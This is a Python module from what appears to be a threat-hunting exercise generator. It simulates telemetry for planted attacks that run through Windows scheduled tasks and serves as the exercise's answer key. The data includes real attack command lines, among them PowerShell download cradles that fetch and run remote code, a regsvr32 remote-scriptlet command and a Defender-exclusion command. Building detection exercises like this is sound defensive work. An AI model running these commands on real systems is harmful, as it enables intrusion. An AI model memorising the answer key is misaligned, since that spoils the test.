"""The malicious scenarios: the attacks planted for the hunt to find.

Why this module exists: they are the answer key's positives. Each method writes one attack's
scheduled task, its runs and what they do; one (the hourly beacon) is malicious but runs too often
for the published query's rarity test, to show what that test misses.
"""

from __future__ import annotations

import base64
import string

from hunting_lib.sample.common import (
    CMD,
    DAY,
    DAYS,
    DOMAIN,
    HOUR,
    MIN,
    POWERSHELL,
    REGSVR32,
    RUNDLL32,
    SEC,
    SYS32,
    SYSTEM,
    T0,
)
from hunting_lib.sample.planter import letters, public_ip
from hunting_lib.sample.registrations import Registrar
from hunting_lib.sample.taskdefs import (
    TaskSpec,
    daily_trigger,
    env_path,
    local_time,
    logon_trigger,
    time_trigger,
)
from hunting_lib.sample.templates import HKLM


class Attacks(Registrar):
    """The malicious scenarios, one method each."""

    def mal_encoded_powershell(self) -> None:
        dev = next(self.ws)
        ip = public_ip(self.rng, 185)
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a')"
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        k = self.new(
            id="mal-encoded-powershell", kind="malicious", technique="T1059.001",
            title="Encoded PowerShell download cradle run by a logon task as SYSTEM",
            why=("A task runs powershell.exe hidden with -enc; the base64 decodes to IEX (New-Object "
                 "Net.WebClient).DownloadString from a bare public IP. Rare, and every run calls out, so the "
                 "hunt must flag it."),
            seed_reports_it=True, folder=POWERSHELL, cmd=f"powershell.exe -nop -w hidden -enc {enc}",
            task_name=self.choice(["\\Microsoft\\Windows\\WinSAT\\WinSATRefresh", "\\GoogleUpdateTaskMachineQA",
                                   "\\Microsoft\\Windows\\Maintenance\\SystemHealthCheck"]))
        runs = (self.at(2, 7.9), self.at(3, 8.1))
        # Registered from an elevated console minutes before the next logon runs it.
        self.by_schtasks(k, dev, self.later(runs[0], -2400, -360),
                         TaskSpec("powershell.exe", self.scenarios[k].cmd.split(" ", 1)[1], [logon_trigger()]),
                         "onlogon", "SYSTEM")
        service = letters(self.rng, 7)
        for run, ts in enumerate(runs):
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            self.dotnet(p, ts)
            self.ps_commands(p, ts, ["New-Object", "Invoke-Expression"])
            self.net(p, self.later(ts, 2, 4), ip, 80)
            if run:
                continue
            policy_test = f"__PSScriptPolicyTest_{letters(self.rng, 8)}.{letters(self.rng, 3)}.ps1"
            self.file(p, self.later(ts, 1, 2), "FileCreated", "C:\\Windows\\Temp\\" + policy_test, 1)
            key = f"HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\{service}"
            t = self.later(ts, 5, 8)
            self.reg(p, t, key, "", "", "", "RegistryKeyCreated")
            self.reg(p, self.later(t, 0.01, 0.05), key, "ImagePath", "ExpandString",
                     f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc {enc}")
            t = self.later(ts, 9, 12)
            whoami = self.start(p, t, SYS32 + "whoami.exe", '"whoami.exe" /groups')
            self.dll(whoami, self.later(t, 0.01, 0.1), SYS32 + "authz.dll")
            t = self.later(ts, 14, 20)
            net = self.start(p, t, SYS32 + "net.exe", 'net.exe group "domain admins" /domain')
            net1 = self.start(net, self.later(t, 0.01, 0.05), SYS32 + "net1.exe",
                              'C:\\Windows\\system32\\net1  group "domain admins" /domain')
            self.dll(net1, self.later(t, 0.06, 0.1), SYS32 + "samcli.dll")
            self.net(net1, self.later(t, 0.1, 0.3), self.d.device_values["dc_ip"][dev], 445, public=False)
        self.first_victim = dev

    def mal_rundll32_user_dll(self) -> None:
        dev = next(self.ws)
        u = self.f.user[dev]
        word = letters(self.rng, 6)
        dll = self.choice([f"C:\\Users\\Public\\Libraries\\{word}.dll",
                           f"C:\\Users\\{u}\\AppData\\Local\\Temp\\{word}.dat",
                           f"C:\\Users\\{u}\\AppData\\Roaming\\{word.capitalize()}\\{word}.dll"])
        export = self.choice(["DllRegisterServer", "Start", "#1", "RunW"])
        domain = f"{letters(self.rng, 5)}-{letters(self.rng, 4)}.{self.choice(['com', 'net', 'top', 'xyz'])}"
        ip = public_ip(self.rng, 45)
        dll_dir = dll.rsplit("\\", 1)[0]
        k = self.new(
            id="mal-rundll32-user-dll", kind="malicious", technique="T1218.011",
            title="rundll32 loading a DLL from a user-writable folder at every logon",
            why=(f"rundll32.exe runs an unsigned DLL from {dll_dir}, talks to a fresh domain over 443 and injects "
                 "into explorer. System binaries running payloads from user folders are a classic loader; the hunt "
                 "must flag it."),
            seed_reports_it=True, folder=RUNDLL32, cmd=f"rundll32.exe {dll},{export}",
            task_name="\\" + self.choice(["Adobe Acrobat Update", "OneDrive Sync Helper", "Zoom Updater"]))
        runs = (self.at(3, 7.7), self.at(4, 8.0))
        # A JScript dropper the user opened registers the task through the Schedule.Service COM API
        # (event 4698's XML); the task names the DLL with an environment variable.
        t = self.later(runs[0], -1500, -400)
        lure = f"C:\\Users\\{u}\\Downloads\\{self.choice(['Invoice', 'Scan', 'Delivery'])}_{letters(self.rng, 5)}.js"
        host = self.start(self.ll(dev, "explorer"), t, SYS32 + "wscript.exe",
                          f'"C:\\Windows\\System32\\WScript.exe" "{lure}"', tag=-1, rel=k)
        self.file(host, self.later(t, 0.5, 1), "FileCreated", dll, rel=k)
        account = f"{DOMAIN}\\{u}"
        spec = TaskSpec("%windir%\\system32\\rundll32.exe", f"{env_path(dll)},{export}", [logon_trigger(account)],
                        user_id=account, run_level="LeastPrivilege", logon_type="InteractiveToken")
        self.register(k, dev, host, self.later(t, 1.5, 3), spec, self.subject_user(dev), "xml")
        for run, ts in enumerate(runs):
            p = self.run(k, dev, ts, self.user(dev), "Medium")
            self.dll(p, self.later(ts, 0.05, 0.2), dll, hash_key=f"{self.d.seed}|{dll}")
            for i in range(2):
                self.net(p, self.later(ts, 3 + 30 * i, 5 + 30 * i), ip, 443, domain)
            if run:
                continue
            explorer = self.ll(dev, "explorer")
            self.d.event("DeviceEvents", p, self.later(ts, 6, 8), "CreateRemoteThreadApiCall",
                         FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe",
                         ProcessId=self.d.attr(explorer, "pid"), ProcessCommandLine="Explorer.EXE")
            dropped = f"{letters(self.rng, 4)}{int(self.rng.integers(1000, 9999))}.tmp"
            self.file(p, self.later(ts, 4, 6), "FileCreated", f"C:\\Users\\{u}\\AppData\\Local\\Temp\\{dropped}")
            t = self.later(ts, 40, 60)
            cmd = self.start(p, t, CMD, "cmd.exe /c systeminfo")
            self.conhost(cmd, t)
            info = self.start(cmd, self.later(t, 0.05, 0.1), SYS32 + "systeminfo.exe", "systeminfo")
            self.dll(info, self.later(t, 0.2, 0.4), SYS32 + "wbem\\fastprox.dll")

    def mal_regsvr32_scriptlet(self) -> None:
        dev = next(self.ws)
        ip = public_ip(self.rng, 91)
        name = letters(self.rng, 4)
        sct = f"http://{ip}/{name}.sct"
        exclusion = f"C:\\ProgramData\\{letters(self.rng, 6).capitalize()}"
        k = self.new(
            id="mal-regsvr32-scriptlet", kind="malicious", technique="T1218.010",
            title="regsvr32 fetching and running a remote COM scriptlet (Squiblydoo)",
            why=("regsvr32.exe /i:http://... scrobj.dll downloads and runs a scriptlet; here it then adds a "
                 "Defender exclusion. Rare and clearly malicious; the hunt must flag it."),
            seed_reports_it=True, folder=REGSVR32, cmd=f"regsvr32.exe /s /n /u /i:{sct} scrobj.dll",
            task_name="\\Microsoft\\Windows\\Registry\\RegIdleBackupCheck")
        ts = self.at(2, 3.0, 2)
        start = ts // MIN * MIN
        self.by_schtasks(k, dev, self.later(ts, -2400, -400),
                         TaskSpec("regsvr32.exe", self.scenarios[k].cmd.split(" ", 1)[1], [time_trigger(start)]),
                         f"once /st {local_time(start)[11:16]}", "SYSTEM")
        p = self.run(k, dev, ts)
        # The operator deletes the one-shot task from the same console a few minutes after it ran.
        sch, t = self.console(k, dev, self.later(ts, 60, 240), f'schtasks.exe /delete /tn "{self.scenarios[k].task_name}" /f')
        self.delete(k, dev, sch, self.later(t, 0.05, 0.3), self.subject_user(dev))
        self.dll(p, self.later(ts, 0.05, 0.1), SYS32 + "scrobj.dll")
        self.dll(p, self.later(ts, 0.6, 0.8), SYS32 + "jscript.dll")
        self.net(p, self.later(ts, 0.2, 0.5), ip, 80)
        cache = "C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\"
        cache += letters(self.rng, 8, string.ascii_uppercase + string.digits)
        self.file(p, self.later(ts, 0.5, 0.6), "FileCreated", f"{cache}\\{name}[1].sct",
                  int(self.rng.integers(900, 3000)), FileOriginUrl=sct)
        t = self.later(ts, 1, 2)
        ps = self.start(p, t, POWERSHELL,
                        f'powershell.exe -nop -w hidden -c "Add-MpPreference -ExclusionPath {exclusion}"')
        self.conhost(ps, t)
        self.dotnet(ps, t)
        self.reg(ps, self.later(t, 2, 3), HKLM + "Microsoft\\Windows Defender\\Exclusions\\Paths", exclusion,
                 "Dword", "0")

    def mal_masquerade_appdata(self) -> None:
        dev = next(self.ws)
        u = self.f.user[dev]
        exe, sub, args = self.choice([("svchost.exe", "Microsoft", "-k LocalService"),
                                      ("OneDriveUpdate.exe", "Microsoft\\OneDrive", "/silent"),
                                      ("RuntimeBroker.exe", "Microsoft\\Windows", "-Embedding")])
        folder = f"C:\\Users\\{u}\\AppData\\Roaming\\{sub}\\"
        domain = f"{letters(self.rng, 6)}.{self.choice(['com', 'net', 'info'])}"
        ip = public_ip(self.rng, 45)
        k = self.new(
            id="mal-masquerade-appdata", kind="malicious", technique="T1036.005",
            title=f"Unsigned {exe} masquerading from the user's AppData",
            why=(f"A Windows/Microsoft program name ({exe}) run from the user's roaming profile, unsigned, with a "
                 "Run key, keylogging API calls, a beacon and a logon with an admin's credentials. The hunt must "
                 "flag it."),
            seed_reports_it=True, folder=folder + exe, cmd=f"{exe} {args}",
            task_name="\\Microsoft\\Windows\\Shell\\UserTaskRefresh")
        runs = (self.at(3, 7.8), self.at(5, 8.2))
        # Registered with PowerShell's Register-ScheduledTask from the user's session; the action is quoted
        # and names the roaming profile by its variable.
        t = self.later(runs[0], -1800, -500)
        path, leaf = self.scenarios[k].task_name.rsplit("\\", 1)
        program = f'"{env_path(folder + exe)}"'
        line = (f"powershell.exe -NoProfile -WindowStyle Hidden -Command \"Register-ScheduledTask -TaskName '{leaf}' "
                f"-TaskPath '{path}\\' -Action (New-ScheduledTaskAction -Execute '{program}' -Argument '{args}') "
                "-Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force\"")
        ps = self.start(self.ll(dev, "explorer"), t, POWERSHELL, line, tag=-1, rel=k)
        account = f"{DOMAIN}\\{u}"
        spec = TaskSpec(program, args, [logon_trigger(account)], user_id=account, run_level="LeastPrivilege",
                        logon_type="InteractiveToken")
        self.register(k, dev, ps, self.later(t, 2, 5), spec, self.subject_user(dev))
        run_key = f"HKEY_CURRENT_USER\\{self.f.user_sid[dev]}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
        for run, ts in enumerate(runs):
            p = self.run(k, dev, ts, self.user(dev), "Medium", company="", hash_key=f"{self.d.seed}|{folder}{exe}")
            for i in range(3):
                self.net(p, self.later(ts, 5 + 600 * i, 30 + 600 * i), ip, 443, domain)
            self.d.event("DeviceEvents", p, self.later(ts, 10, 20), "GetAsyncKeyStateApiCall")
            if run:
                continue
            self.reg(p, self.later(ts, 1, 2), run_key, exe[:-4] + " Update", "String", f'"{folder}{exe}" {args}')
            log = f"{folder}{letters(self.rng, 5)}.dat"
            self.file(p, self.later(ts, 60, 90), "FileCreated", log, 0)
            self.file(p, self.later(ts, 1800, 2400), "FileModified", log)
            self.d.event("DeviceLogonEvents", p, self.later(ts, 200, 300), "LogonSuccess", LogonType="NewCredentials",
                         AccountDomain=DOMAIN, AccountName=self.choice(self.f.admins), Protocol="Negotiate",
                         LogonId=self.logon_id())
            t = self.later(ts, 100, 150)
            cmd = self.start(p, t, CMD, "cmd.exe /c tasklist /v")
            self.conhost(cmd, t)
            tasklist = self.start(cmd, self.later(t, 0.05, 0.1), SYS32 + "tasklist.exe", "tasklist  /v")
            self.dll(tasklist, self.later(t, 0.2, 0.3), SYS32 + "wbem\\wbemprox.dll")

    def mal_atexec(self) -> None:
        candidates = [int(x) for x in self.f.servers if self.f.role[x] in ("fs", "app", "sql")] + [next(self.ws)]
        dev = self.choice(candidates)
        tmp = f"C:\\Windows\\Temp\\{letters(self.rng, 8, string.ascii_letters)}.tmp"
        source = self.first_victim  # lateral movement from the encoded-PowerShell victim
        k = self.new(
            id="mal-atexec-whoami", kind="malicious", technique="T1053.005",
            title="Remote one-shot task (Impacket atexec) running whoami into a temp file",
            why=("A task registered over RPC from another workstation runs cmd.exe /C whoami /all > "
                 "C:\\Windows\\Temp\\<8 letters>.tmp 2>&1 once and is deleted: lateral movement by atexec. Rare; "
                 "the hunt must flag it."),
            seed_reports_it=True, folder=CMD, cmd=f"cmd.exe /C whoami /all > {tmp} 2>&1",
            task_name="\\" + letters(self.rng, 8, string.ascii_letters))
        s = self.scenarios[k]
        ts = self.at(3, 22.5)
        sched = self.ll(dev, "svc_schedule")
        admin, admin_sid = self.f.admins[0], self.f.user_sids[len(self.f.ws)]
        logon = self.logon_id()
        # atexec logs on over SMB with NTLM, registers the task over RPC (so the Schedule service itself is the
        # registering process and the caller is in Subject*), runs it, reads the output and deletes both.
        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(ts, -3, -2), "LogonSuccess",
                     rel=self._mark(k), LogonType="Network", AccountDomain=DOMAIN, AccountName=admin,
                     AccountSid=admin_sid, Protocol="NTLM", RemoteIP=self.f.ip[source],
                     RemoteDeviceName=self.f.names[source], RemoteIPType="Private", RemotePort=self.port(),
                     LogonId=logon, AdditionalFields='{"IsLocalLogon":false}')
        subject = (DOMAIN, admin, admin_sid, logon)
        spec = TaskSpec("cmd.exe", "/C whoami /all > %windir%\\Temp\\" + tmp.rsplit("\\", 1)[1] + " 2>&1",
                        [time_trigger(ts // SEC * SEC)], hidden=True)
        self.register(k, dev, sched, self.later(ts, -1.5, -1), spec, subject)
        s.registrations[-1].update(remote=True, remote_ip=self.f.ip[source])
        p = self.run(k, dev, ts)
        self.conhost(p, ts)
        self.file(p, self.later(ts, 0.02, 0.05), "FileCreated", tmp, 0)
        whoami = self.start(p, self.later(ts, 0.03, 0.06), SYS32 + "whoami.exe", "whoami  /all")
        self.dll(whoami, self.later(ts, 0.07, 0.1), SYS32 + "authz.dll")
        self.delete(k, dev, sched, self.later(ts, 2, 4), subject)
        self.file(self.ll(dev, "system"), self.later(ts, 5, 7), "FileDeleted", tmp, rel=k, RequestProtocol="Smb",
                  RequestSourceIP=self.f.ip[source], RequestAccountName=admin)

    def mal_hourly_beacon(self) -> None:
        dev = next(self.ws)
        folder, exe, cmd = self.choice([
            ("C:\\ProgramData\\Intel\\GfxUpdate\\", "igfxupd.exe", "igfxupd.exe -check"),
            ("C:\\ProgramData\\Microsoft\\DeviceSync\\", "devsync.exe", "devsync.exe /sync"),
            ("C:\\ProgramData\\Adobe\\ARM\\", "armupdate.exe", "armupdate.exe /silent")])
        host = f"{letters(self.rng, 4)}{self.choice(['cdn', 'api', 'sync'])}.{self.choice(['net', 'org', 'io'])}"
        ip = public_ip(self.rng, self.choice([45, 91, 185]))
        k = self.new(
            id="mal-hourly-beacon", kind="malicious", technique="T1071.001",
            title="Hourly beacon task on a single workstation",
            why=(f"{exe} in ProgramData runs every hour on one device and calls {host} each time. Malicious, but it "
                 "runs far more than twice, so the published count_ < 3 drops it; only a per-device prevalence "
                 "view catches it."),
            seed_reports_it=False, folder=folder + exe, cmd=cmd,
            task_name="\\Microsoft\\Windows\\Maintenance\\DeviceHealth")
        first = self.at(1, 9 + float(self.rng.integers(0, 6)), 1)
        minute = int(self.rng.integers(0, 60)) * MIN
        spec = TaskSpec(folder + exe, cmd.split(" ", 1)[1], [time_trigger(first // MIN * MIN + minute, "PT1H")])
        self.by_schtasks(k, dev, first + minute - 20 * MIN, spec, "hourly", "SYSTEM")  # 20 minutes before its first run
        for i, ts in enumerate(range(first + minute, T0 + DAYS * DAY, HOUR)):
            ts = int(ts) + int(self.rng.integers(0, 3 * 10**7)) * 100
            p = self.run(k, dev, ts, company="", hash_key=f"{self.d.seed}|{folder}{exe}")
            self.net(p, self.later(ts, 0.3, 1.0), ip, 443, host)
            if i == 0:
                self.dll(p, self.later(ts, 0.05, 0.1), SYS32 + "winhttp.dll")
                self.file(p, self.later(ts, 1, 2), "FileCreated", folder + "cfg.dat", 412)
                self.reg(p, self.later(ts, 2, 3), HKLM + "Microsoft\\Windows\\CurrentVersion\\Run", exe[:-4],
                         "String", folder + exe)

    def mal_hidden_registry_task(self) -> None:
        dev = next(self.ws)
        folder = f"C:\\ProgramData\\Microsoft\\{self.choice(['Network', 'Crypto', 'DeviceSync'])}\\"
        exe = self.choice(["winupdate.exe", "updatesvc.exe", "msupdate.exe"])  # Tarrask's tasks posed as updates
        host = f"{letters(self.rng, 5)}.{self.choice(['com', 'net', 'org'])}"
        ip = public_ip(self.rng, self.choice([45, 91, 185]))
        k = self.new(
            id="mal-hidden-registry-task", kind="malicious", technique="T1053.005",
            title="Hidden task written straight into the TaskCache registry keys (Tarrask)",
            why=(f"A SYSTEM PowerShell started through PsExec writes the task's TaskCache Tree and Tasks keys itself "
                 f"(no ScheduledTaskCreated row) and then deletes its SD value so that schtasks and the Task "
                 f"Scheduler no longer show it. The task runs an unsigned {exe} from ProgramData twice; rare, and the "
                 "hunt must flag it."),
            seed_reports_it=True, folder=folder + exe, cmd=f"{exe} -s",
            task_name=self.choice(["\\Microsoft\\Windows\\Maintenance\\WinUpdate",
                                   "\\Microsoft\\Windows\\UPnP\\UPnPHostSync", "\\Microsoft\\Windows\\WDI\\SrvSync"]))
        runs = (self.at(5, 1.5, 30), self.at(6, 1.5, 30))
        t = self.at(4, 21.0, 60)
        admin = self.f.admins[1 % len(self.f.admins)]
        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(t, -4, -2), "LogonSuccess", rel=k,
                     LogonType="Network", AccountDomain=DOMAIN, AccountName=admin, Protocol="NTLM",
                     RemoteIP=self.f.ip[self.first_victim], RemoteDeviceName=self.f.names[self.first_victim],
                     RemoteIPType="Private", RemotePort=self.port(), LogonId=self.logon_id(),
                     AdditionalFields='{"IsLocalLogon":false}')
        psexec = self.start(self.ll(dev, "services"), t, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                            SYSTEM, "System", tag=-1, rel=k, company="Sysinternals - www.sysinternals.com")
        script = f"C:\\Windows\\Temp\\{letters(self.rng, 6)}.ps1"
        writer = self.start(psexec, self.later(t, 2, 4), POWERSHELL, f"powershell.exe -nop -ep bypass -File {script}",
                            tag=-1, rel=k)
        spec = TaskSpec(env_path(folder + exe), "-s", [time_trigger(r // MIN * MIN) for r in runs], hidden=True)
        self.registry_only(k, dev, writer, self.later(t, 6, 8), spec, hide_after_s=40)
        self.file(writer, self.later(t, 4, 5), "FileCreated", folder + exe, rel=k)
        for run, ts in enumerate(runs):
            p = self.run(k, dev, ts, company="", hash_key=f"{self.d.seed}|{folder}{exe}")
            self.net(p, self.later(ts, 1, 3), ip, 443, host)
            if run:
                continue
            t = self.later(ts, 20, 40)
            shell = self.start(p, t, CMD, 'cmd.exe /c "ipconfig /all & net localgroup administrators"')
            self.conhost(shell, t)
            self.start(shell, self.later(t, 0.05, 0.1), SYS32 + "ipconfig.exe", "ipconfig  /all")
            self.file(p, self.later(ts, 5, 9), "FileCreated", folder + "cache.bin")

    def mal_registered_never_ran(self) -> None:
        dev = next(self.ws)
        u = self.f.user[dev]
        ip = public_ip(self.rng, 185)
        args = f'-w hidden -nop -c "iex (iwr http://{ip}/u.ps1 -UseBasicParsing)"'
        k = self.new(
            id="mal-registered-never-ran", kind="malicious_never_ran", technique="T1053.005",
            title="A task registered by an HTA attachment that has not run yet",
            why=("mshta.exe, opened from an Outlook attachment, registers a daily PowerShell download cradle whose "
                 "first trigger is after the window's end. It never ran, so it is no rare group; only the "
                 "registrations that never ran (task_registrations) show it."),
            seed_reports_it=False, folder=POWERSHELL, cmd=f"powershell.exe {args}",
            task_name="\\" + self.choice(["OneDrive Reporting Task", "Office Feature Updates Logon", "EdgeSyncCheck"]))
        s = self.scenarios[k]
        s.devices.append(dev)
        s.account = f"{DOMAIN}\\{u}"
        t = self.at(6, 10.0, 240)
        attachment = (f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RX2K1M\\"
                      f"{self.choice(['Statement', 'Remittance', 'Voicemail'])}.hta")
        hta = self.start(self.ll(dev, "outlook"), t, SYS32 + "mshta.exe",
                         f'"C:\\Windows\\System32\\mshta.exe" "{attachment}"', tag=-1, rel=k)
        account = f"{DOMAIN}\\{u}"
        spec = TaskSpec("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", args,
                        [daily_trigger(T0 + DAYS * DAY + 2 * DAY + 9 * HOUR)], user_id=account,
                        run_level="LeastPrivilege", logon_type="InteractiveToken", hidden=True)
        self.register(k, dev, hta, self.later(t, 2, 6), spec, self.subject_user(dev))
